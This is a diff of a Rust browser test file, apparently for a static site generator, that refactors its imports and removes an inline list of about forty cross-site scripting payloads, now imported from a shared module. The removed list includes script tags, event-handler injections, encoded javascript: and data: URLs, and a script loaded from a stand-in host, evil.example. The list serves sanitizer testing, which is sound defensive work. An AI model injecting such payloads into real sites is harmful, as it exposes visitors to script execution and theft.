@@ -20,9 +20,8 @@
 #[path = "browser/cdp.rs"]
 mod cdp;
 mod common;
-#[path = "browser/synth.rs"]
-mod synth;
 
+use common::xss::PAYLOADS;
 use common::*;
 use serde_json::{Value, json};
 use std::collections::{BTreeMap, BTreeSet};
@@ -634,7 +633,7 @@ fn a_village_of_100_members_does_not_scroll_sideways_at_360_px() {
     if !available("a_village_of_100_members_does_not_scroll_sideways_at_360_px", false) {
         return;
     }
-    let (site, unit) = synth::large_unit_site();
+    let (site, unit) = common::synth::large_unit_site();
     let host = StaticHost::serve(&site.path("output"));
     let chrome = Chrome::launch();
     let window = phone_window(&chrome);
@@ -897,50 +896,6 @@ const GROUPS: usize = 8;
 
 /// What a payload runs: it sets a sentinel and opens a dialog, either of which the test sees.
 const RUN: &str = "top.__gkXss=1;alert(1)";
-
-/// The payloads of `tests/hostile.rs`, with `alert(1)` standing for [`RUN`].
-const PAYLOADS: &[&str] = &[
-    "<script>alert(1)</script>",
-    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
-    "<img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "[点此](javascript:alert(1))",
-    "[点此](JaVaScRiPt:alert(1))",
-    "[点此](&#106;avascript:alert(1))",
-    "[点此](&#x6A;avascript&colon;alert(1))",
-    "[点此](java\tscript:alert(1))",
-    "[点此](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "[点此](<javascript:alert(1)>)",
-    "[点此][r]\n\n[r]: javascript:alert(1)",
-    "![图](javascript:alert(1))",
-    "<javascript:alert(1)>",
-    "<a href=\"vbscript:msgbox(1)\">v</a>",
-    "<a href=\"jav&#x09;ascript:alert(1)\">t</a>",
-    "<a href=\" javascript:alert(1)\">s</a>",
-    "<a href=\"data:text/html,<script>alert(1)</script>\">d</a>",
-    "\"><script>alert(1)</script>",
-    "'><script>alert(1)</script>",
-    "\" onmouseover=\"alert(1)",
-    "' onfocus='alert(1)' autofocus tabindex='0",
-    "</textarea><script>alert(1)</script>",
-    "</title><script>alert(1)</script>",
-    "</style></script><script>alert(1)</script>",
-    "<iframe src=\"javascript:alert(1)\"></iframe>",
-    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
-    "<div style=\"background:url(javascript:alert(1))\">x</div>",
-    "<object data=\"javascript:alert(1)\"></object><embed src=\"javascript:alert(1)\">",
-    "<form action=\"javascript:alert(1)\"><button formaction=\"javascript:alert(1)\">x</button></form>",
-    "<base href=\"javascript:/\"><meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "<!--<img src=x onerror=alert(1)>--><![CDATA[<script>alert(1)</script>]]>",
-    "<details open ontoggle=alert(1)>",
-    "<body onload=alert(1)>",
-    "<input autofocus onfocus=alert(1)>",
-    "<video><source onerror=alert(1)></video>",
-    "<a href=\"#\" onclick=\"alert(1)\">c</a>",
-    "]]></loc><script>alert(1)</script>",
-];
 
 /// A YAML double-quoted scalar holding `text` exactly.
 fn yq(text: &str) -> String {
